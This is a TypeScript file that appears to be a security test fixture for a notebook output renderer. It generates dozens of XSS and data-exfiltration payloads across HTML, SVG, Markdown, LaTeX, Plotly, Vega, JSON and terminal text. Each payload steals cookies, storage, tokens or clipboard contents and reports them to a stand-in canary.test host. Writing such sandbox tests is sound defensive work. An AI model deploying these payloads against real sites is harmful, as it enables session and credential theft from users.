/**
 * Outputs that try to read a secret of the page and to send it out. Each reports to a host of its own below
 * `canary.test`, so that whatever gets through is known by name.
 */
export interface Payload {
  name: string
  mime: string
  data: string
  /** Makes the browser begin to leave the frame for an address: see `mayConnect`. */
  leaves?: true
}

/** Tries every way from a script to the secret, and every quick way out. */
const steal = (url: string): string => `(() => {
  const got = []
  const read = f => { try { got.push(String(f()).slice(0, 200)) } catch (error) { got.push('refused') } }
  read(() => document.cookie); read(() => localStorage.secret); read(() => sessionStorage.secret)
  read(() => parent.secret); read(() => top.secret); read(() => parent.document.body.textContent)
  read(() => top.document.cookie); read(() => frameElement.ownerDocument.cookie); read(() => opener.secret)
  const out = '${url}?stolen=' + encodeURIComponent(got.join('|'))
  const send = f => { try { const done = f(); if (done && done.catch) done.catch(() => 0) } catch { void 0 } }
  send(() => fetch(out, { mode: 'no-cors' })); send(() => { new Image().src = out }); send(() => navigator.sendBeacon(out, 'x'))
  send(() => parent.postMessage({ stolen: got.join('|') }, '*')); send(() => { parent.owned = 1 }); send(() => { top.owned = 1 })
})()`

export function hostilePayloads(port: number): Payload[] {
  const at = (name: string, path = '/') => `http://${name}.canary.test:${port}${path}`
  const payloads: Payload[] = []
  const add = (mime: string, name: string, make: (url: string) => string, more: { leaves?: true } = {}) =>
    payloads.push({ name, mime, data: make(at(name)), ...more })
  const html = (name: string, make: (url: string) => string, more: { leaves?: true } = {}) =>
    add('text/html', name, make, more)
  const script = (name: string, make: (url: string) => string, more: { leaves?: true } = {}) =>
    html(name, url => `<p>${name}</p><script>try { ${make(url)} } catch { void 0 }</script>`, more)
  const now = (url: string) => steal(url).replaceAll('"', '&quot;')

  script('script', steal)
  html('onerror', url => `<img src="x:" onerror="${now(url)}">`)
  html('onload-style', url => `<style onload="${now(url)}">p{}</style>`)
  html('ontoggle', url => `<details open ontoggle="${now(url)}">x</details>`)
  html('onfocus', url => `<input autofocus onfocus="${now(url)}">`)
  html(
    'onanimation',
    url => `<style>@keyframes a{}</style><b style="animation:a 1s" onanimationstart="${now(url)}">x</b>`,
  )
  html('script-src', url => `<script src="${url}x.js"></script>`)
  html('script-module', url => `<script type="module">import "${url}x.mjs"</script>`)
  html('srcdoc', url => `<iframe srcdoc="<script>${now(url)}</script>"></iframe>`)
  html('iframe', url => `<iframe src="${url}"></iframe>`)
  html('iframe-js', url => `<iframe src="javascript:${now(url)}"></iframe>`)
  html('meta-refresh', url => `<meta http-equiv="refresh" content="0;url=${url}">`)
  html('base', url => `<base href="${url}"><img src="relative.png"><link rel="icon" href="i.png">`)
  html('stylesheet', url => `<link rel="stylesheet" href="${url}a.css">`)
  html('prefetch', url => `<link rel="prefetch" href="${url}"><link rel="prerender" href="${url}">`)
  html('preload', url => `<link rel="preload" as="image" href="${url}"><link rel="modulepreload" href="${url}m.js">`)
  html('preconnect', url => `<link rel="preconnect" href="${url}"><link rel="dns-prefetch" href="${url}">`)
  html('manifest', url => `<link rel="manifest" href="${url}m.json"><link rel="icon" href="${url}i.ico">`)
  html('css-import', url => `<style>@import "${url}i.css";</style>`)
  html('css-url', url => `<style>p{background:url(${url}b.png)}</style><p style="background:url(${url}c.png)">x</p>`)
  html('css-font', url => `<style>@font-face{font-family:f;src:url(${url}f.woff)}p{font-family:f}</style><p>x</p>`)
  html(
    'css-attribute',
    url => `<style>html:has(p){list-style-image:url(${url}s)}p::before{content:url(${url}t)}</style><p>x</p>`,
  )
  html(
    'img',
    url => `<img src="${url}i.png"><img srcset="${url}s.png 1x"><picture><source srcset="${url}p"><img></picture>`,
  )
  html('input-image', url => `<input type="image" src="${url}i.png">`)
  html('body-background', url => `<body background="${url}b"><table background="${url}t"><td>x</table>`)
  html(
    'video',
    url => `<video poster="${url}p.png" src="${url}v.mp4" autoplay></video><audio src="${url}a.mp3"></audio>`,
  )
  html('track', url => `<video><source src="${url}v.mp4"><track default src="${url}t.vtt"></video>`)
  html('object', url => `<object data="${url}o"></object><embed src="${url}e"><applet code="${url}"></applet>`)
  html(
    'form',
    url => `<form id="f" action="${url}" method="post"><input name="q" value="1"></form><script>f.submit()</script>`,
  )
  html('form-button', url => `<form><button id="b" formaction="${url}">x</button></form><script>b.click()</script>`)
  html('ping', url => `<a id="a" href="#" ping="${url}">x</a><script>a.click()</script>`)
  html('anchor', url => `<a id="a" href="${url}">x</a><script>a.click()</script>`)
  html('anchor-top', url => `<a id="a" href="${url}" target="_top">x</a><script>a.click()</script>`)
  html('anchor-blank', url => `<a id="a" href="${url}" target="_blank">x</a><script>a.click()</script>`)
  html('anchor-download', url => `<a id="a" href="${url}" download>x</a><script>a.click()</script>`)
  html('anchor-js', url => `<a id="a" href="javascript:${now(url)}">x</a><script>a.click()</script>`)
  html('svg-script', url => `<svg onload="${now(url)}"><script>${steal(url)}</script></svg>`)
  html('svg-image', url => `<svg><image href="${url}i.png"/><feImage href="${url}f"/><use href="${url}u#x"/></svg>`)
  html(
    'svg-animate',
    url =>
      `<svg><a id="a"><animate attributeName="href" values="javascript:${now(url)}" /><text>x</text></a></svg><script>a.dispatchEvent(new MouseEvent('click'))</script>`,
  )
  html(
    'svg-foreign',
    url =>
      `<svg><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${url}"></iframe><img src="${url}i"/></foreignObject></svg>`,
  )
  html(
    'mathml',
    url =>
      `<math href="javascript:${now(url)}"><mtext><img src="x:" onerror="${now(url)}"></mtext><annotation-xml encoding="text/html"><img src="${url}m"></annotation-xml></math>`,
  )
  html('mutation', url => `<svg></p><style><a id="</style><img src=x: onerror=&quot;${now(url)}&quot;>">`)
  html(
    'noscript',
    url => `<noscript><p title="</noscript><img src=x: onerror='${now(url).replaceAll("'", '&#39;')}'>">`,
  )
  html(
    'template',
    url => `<div><template shadowrootmode="open"><img src="${url}s"><script>${steal(url)}</script></template></div>`,
  )
  html(
    'csp-breakout',
    url =>
      `</body></html><script nonce="">${steal(url)}</script><meta http-equiv="Content-Security-Policy" content="default-src *"><img src="${url}x">`,
  )
  html(
    'clobbering',
    url =>
      `<form id="parent"><input name="postMessage"></form><img name="currentScript"><a id="meta" href="${url}"></a><img src="${url}c">`,
  )
  html('comment', url => `<!--><img src="${url}a">--><![CDATA[<img src="${url}b">]]>`)
  html(
    'importmap',
    url =>
      `<script type="importmap">{"imports":{"x":"${url}x.mjs"}}</script><script type="module">import("x")</script>`,
  )
  html(
    'speculation',
    url =>
      `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${url}"],"eagerness":"immediate"}],"prerender":[{"source":"list","urls":["${url}"]}]}</script>`,
  )
  script('window-open', url => `open('${url}'); open('${url}', '_top')`)
  script('top-location', url => `top.location = '${url}'`)
  script('parent-location', url => `parent.location.replace('${url}')`)
  script('location', url => `location = '${url}'`, { leaves: true })
  script('location-later', url => `onload = () => setTimeout(() => { location = '${url}' }, 50)`, { leaves: true })
  script('open-self', url => `open('${url}', '_self')`, { leaves: true })
  script('location-js', url => `location = "javascript:" + ${JSON.stringify(steal(url)).replaceAll('</', '<\\/')}`)
  script('data-page', url => `location = 'data:text/html,<img src=${url}>'`, { leaves: true })
  script('blob-page', url => `location = URL.createObjectURL(new Blob(['<img src=${url}>'], { type: 'text/html' }))`, {
    leaves: true,
  })
  script('websocket', url => `new WebSocket('${url.replace('http', 'ws')}')`)
  script('event-source', url => `new EventSource('${url}')`)
  script('xhr', url => `const x = new XMLHttpRequest(); x.open('GET', '${url}'); x.send()`)
  script(
    'fetch-own-api',
    () =>
      `for (const path of ['/api/v1/me', '/api/v1/tokens']) fetch(path, { credentials: 'include' }).then(r => r.text()).then(text => parent.postMessage({ stolen: text }, '*'))`,
  )
  script('keepalive', url => `fetch('${url}', { keepalive: true, mode: 'no-cors', method: 'POST' })`)
  script('fetch-later', url => `fetchLater('${url}', { activateAfter: 0 })`)
  script('import', url => `import('${url}x.mjs')`)
  script('worker', url => `new Worker(URL.createObjectURL(new Blob(["fetch('${url}', { mode: 'no-cors' })"])))`)
  script('shared-worker', url => `new SharedWorker('data:text/javascript,fetch("${url}")')`)
  script('service-worker', url => `navigator.serviceWorker.register('${url}sw.js')`)
  script(
    'worklet',
    url => `CSS.paintWorklet.addModule('${url}p.js'); new AudioContext().audioWorklet.addModule('${url}a.js')`,
  )
  script(
    'webrtc',
    url =>
      `const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${new URL(url).host}' }] }); p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o))`,
  )
  script(
    'webrtc-frame',
    url =>
      `onload = () => { const f = document.createElement('iframe'); document.body.append(f); const p = new f.contentWindow.RTCPeerConnection({ iceServers: [{ urls: 'stun:${new URL(url).host}' }] }); p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o)) }`,
  )
  for (const [name, load] of [
    ['webrtc-srcdoc', 'f.srcdoc = page'],
    ['webrtc-attribute', "const a = document.createAttribute('srcdoc'); a.value = page; f.setAttributeNode(a)"],
    [
      'webrtc-html',
      "f.innerHTML = ''; const d = document.createElement('div'); document.body.append(d); d.innerHTML = '<iframe srcdoc=\"' + page.replaceAll('\"', '&quot;') + '\"></iframe>'",
    ],
    ['webrtc-policy', "f.srcdoc = trustedTypes.createPolicy('mine', { createHTML: text => text }).createHTML(page)"],
    ['webrtc-blob', "f.src = URL.createObjectURL(new Blob([page], { type: 'text/html' }))"],
  ] as const)
    script(
      name,
      url =>
        `const page = '<script nonce="' + document.querySelector('script').nonce + '">const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:${new URL(url).host}" }] }); p.createDataChannel("x"); p.createOffer().then(o => p.setLocalDescription(o))<' + '/script>'; const f = document.createElement('iframe'); ${load}; document.body.append(f)`,
    )
  script('web-transport', url => `new WebTransport('${url.replace('http:', 'https:')}')`)
  script(
    'made-link',
    url =>
      `for (const rel of ['prefetch', 'preconnect', 'dns-prefetch', 'stylesheet']) { const l = document.createElement('link'); l.rel = rel; l.href = '${url}'; document.head.append(l) }`,
  )
  script(
    'stolen-nonce',
    url =>
      `const s = document.createElement('script'); s.nonce = document.querySelector('script').nonce; s.src = '${url}s.js'; document.head.append(s)`,
  )
  script(
    'policy-report',
    url =>
      `const m = document.createElement('meta'); m.httpEquiv = 'Content-Security-Policy'; m.content = "img-src 'none'; report-uri ${url}"; document.head.append(m)`,
  )
  script(
    'forged-message',
    url =>
      `parent.postMessage({ meshbookHeight: 1e9, meshbookLink: 'javascript:owned=1', library: ${JSON.stringify(steal(url)).replaceAll('</', '<\\/')}, kind: 'plotly' }, '*')`,
  )
  script(
    'credential',
    () =>
      `navigator.credentials.get({ password: true }); navigator.clipboard.readText().then(text => parent.postMessage({ stolen: text }, '*'))`,
  )
  script(
    'frames',
    url =>
      `for (let n = 0; n < parent.length; n++) try { parent[n].document.body.innerHTML = '<img src=${url}>' } catch { void 0 }`,
  )

  add(
    'image/svg+xml',
    'svg-file',
    url =>
      `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="${now(url)}"><script>${steal(url).replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</script><image href="${url}i.png" width="9" height="9"/></svg>`,
  )
  add(
    'image/svg+xml',
    'svg-entity',
    url =>
      `<!DOCTYPE svg [<!ENTITY x SYSTEM "${url}">]><?xml-stylesheet href="${url}s.css"?><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><style>@import "${url}i.css"; rect{fill:url(${url}f#x)}</style><rect width="9" height="9"/><foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="${url}i"/></foreignObject><text>&x;</text></svg>`,
  )

  for (const [name, make] of Object.entries(markdownPayloads)) add('text/markdown', name, make)

  const tex = (name: string, make: (url: string) => string) => add('text/latex', name, url => `$${make(url)}$`)
  tex('tex-href', url => `\\href{javascript:owned=1}{x} \\href{${url}}{x}`)
  tex('tex-url', url => `\\url{${url}}`)
  tex('tex-image', url => `\\includegraphics[height=1em]{${url}i.png}`)
  tex(
    'tex-html',
    url => `\\htmlStyle{background:url(${url})}{x} \\htmlData{a=b}{x} \\htmlId{app}{x} \\htmlClass{dialog}{x}`,
  )
  tex('tex-text', url => `\\text{<img src="${url}" onerror="owned=1">} \\unknown{<script>owned=1</script>}`)
  add(
    'text/latex',
    'tex-bomb',
    () => `$\\def\\a{\\b\\b\\b\\b}\\def\\b{\\c\\c\\c\\c}\\def\\c{\\d\\d\\d\\d}\\def\\d{\\a\\a}\\a$`,
  )
  add('text/latex', 'tex-size', () => `$\\rule{1000000em}{1000000em}\\kern{-90000em}x$`)

  const plotly = (name: string, make: (url: string) => object) =>
    add('application/vnd.plotly.v1+json', name, url => JSON.stringify(make(url)))
  const points = [{ type: 'scatter', x: [1, 2], y: [1, 2] }]
  plotly('plotly-image', url => ({
    data: points,
    layout: { images: [{ source: `${url}i.png`, x: 0, y: 1, sizex: 1, sizey: 1 }] },
  }))
  plotly('plotly-text', url => ({
    data: [
      {
        ...points[0],
        mode: 'text',
        text: [`<img src="${url}">`, `<a href="javascript:${now(url)}">x</a>`],
        hovertext: [`<script>${steal(url)}</script>`, 'y'],
      },
    ],
    layout: { title: { text: `<img src=x: onerror="${now(url)}"><a href="${url}">t</a>` } },
  }))
  plotly('plotly-map', url => ({
    data: [{ type: 'scattergeo', lon: [1], lat: [1] }],
    layout: {},
    config: { topojsonURL: url, plotlyServerURL: url },
  }))
  plotly('plotly-tiles', url => ({
    data: [{ type: 'scattermap', lon: [1], lat: [1] }],
    layout: { map: { style: `${url}style.json` } },
  }))
  plotly('plotly-proto', url => ({
    data: points,
    layout: JSON.parse(`{"__proto__":{"polluted":"${url}"},"constructor":{"prototype":{"x":1}}}`) as object,
  }))
  plotly('plotly-layers', url => ({ data: [{ type: 'image', source: `${url}z.png` }], layout: {} }))

  const vega = (name: string, make: (url: string) => object) =>
    add('application/vnd.vega.v5+json', name, url => JSON.stringify({ width: 50, height: 50, ...make(url) }))
  vega('vega-data', url => ({ data: [{ name: 'd', url: `${url}d.json` }], marks: [] }))
  vega('vega-image', url => ({
    marks: [
      {
        type: 'image',
        encode: { enter: { url: { value: `${url}i.png` }, width: { value: 9 }, height: { value: 9 } } },
      },
    ],
  }))
  vega('vega-href', url => ({
    marks: [
      {
        type: 'rect',
        encode: {
          enter: {
            href: { value: `javascript:${steal(url)}` },
            width: { value: 9 },
            height: { value: 9 },
            fill: { value: `url(${url}f)` },
          },
        },
      },
    ],
  }))
  vega('vega-signal', url => ({
    signals: [
      {
        name: 's',
        init: `event.view.constructor.constructor("${steal(url).replaceAll('"', '\\"').replaceAll('\n', ' ')}")()`,
      },
      { name: 't', update: `open("${url}")` },
    ],
    marks: [],
  }))
  vega('vega-getter', url => ({
    signals: [{ name: 's', init: `({}).constructor.constructor('fetch("${url}")')()` }],
    marks: [],
  }))
  vega('vega-loader', url => ({
    data: [
      { name: 'd', values: [1], transform: [{ type: 'lookup', from: 'e', key: 'k', fields: ['data'] }] },
      { name: 'e', url, format: { type: 'topojson', feature: 'x' } },
    ],
    marks: [],
  }))
  add('application/vnd.vegalite.v5+json', 'vega-lite-data', url =>
    JSON.stringify({ data: { url: `${url}d.csv` }, mark: 'point', encoding: {} }),
  )
  add('application/vnd.vegalite.v5+json', 'vega-lite-image', url =>
    JSON.stringify({
      data: { values: [{ u: `${url}i.png` }] },
      mark: { type: 'image', width: 9, height: 9 },
      encoding: { url: { field: 'u' }, href: { field: 'u' }, tooltip: { value: `<img src="${url}">` } },
    }),
  )
  add('application/vnd.vegalite.v5+json', 'vega-options', url =>
    JSON.stringify({
      usermeta: {
        embedOptions: {
          loader: { baseURL: url },
          actions: true,
          ast: false,
          patch: `${url}patch.json`,
          config: `${url}config.json`,
          defaultStyle: `@import "${url}s.css"`,
        },
      },
      data: { values: [1] },
      mark: 'point',
      encoding: {},
    }),
  )

  add('application/json', 'json', url =>
    JSON.stringify({ [`<img src="${url}">`]: `<script>${steal(url)}</script>`, __proto__x: { toString: 1 } }),
  )
  add(
    'application/json',
    'json-proto',
    url =>
      `{"__proto__":{"owned":"${url}"},"constructor":null,"dangerouslySetInnerHTML":{"__html":"<img src='${url}'>"}}`,
  )
  html(
    'table-cells',
    url => `<table><tr><th>a</th></tr><tr><td>&lt;img src=${url}&gt;<b onclick="owned=1">x</b></td></tr></table>`,
  )
  html('table-style', url => `<style>td{background:url(${url}t.png)}</style><table><tr><td>x</td></tr></table>`)
  add('application/vnd.dataresource+json', 'table-resource', url =>
    JSON.stringify({
      schema: { fields: [{ name: '__proto__' }, { name: `<img src="${url}">` }] },
      data: [{ [`<img src="${url}">`]: `<img src="${url}" onerror="owned=1">` }],
    }),
  )
  return payloads
}

const markdownPayloads: Record<string, (url: string) => string> = {
  'md-image': url => `![x](${url}i.png) ![y][r]\n\n[r]: ${url}r.png`,
  'md-html': url =>
    `<img src="${url}" onerror="owned=1"><script>owned=1</script><style>p{background:url(${url}b)}</style>`,
  'md-frame': url => `<iframe src="${url}"></iframe><object data="${url}"></object><video poster="${url}p"></video>`,
  'md-link': url =>
    `[x](javascript:owned=1) <javascript:owned=1> [y](data:text/html,<script>owned=1</script>) <a href="${url}" ping="${url}p">z</a>`,
  'md-svg': url =>
    `<svg><image href="${url}i"/><animate onbegin="owned=1"/></svg><math><mtext><img src="${url}"></mtext></math>`,
  'md-form': url =>
    `<form action="${url}" id="app"><button>Sign in</button></form><input formaction="${url}"><meta http-equiv="refresh" content="0;url=${url}">`,
  'md-formula': url =>
    `$\\href{javascript:owned=1}{x}$ <code data-formula="block">\\includegraphics{${url}i.png}</code> <span data-formula="inline"><img src=${url}></span>`,
  'md-mutation': url =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${url} onerror=owned=1&gt;">`,
  'md-style': url =>
    `<p style="background:url(${url}b)">x</p><table background="${url}t"><tr><td>x</td></tr></table><link rel="prefetch" href="${url}">`,
}

/** What stands in the notebook itself, as prose. */
export function hostileProse(port: number): string {
  return Object.entries(markdownPayloads)
    .map(([name, make]) => make(`http://prose-${name}.canary.test:${port}/`))
    .join('\n\n')
}

/** What a terminal might take for more than text. */
export const hostileText = (port: number): string =>
  `\u001b]8;;http://osc.canary.test:${port}/\u0007link\u001b]8;;\u0007 \u001b]52;c;b3duZWQ=\u0007 \u001b[8mhidden\u001b[0m \u202eevil\u202c <img src="http://text.canary.test:${port}/"> \u001bP+q\u001b\\ \u001b]0;title\u0007 end of text`
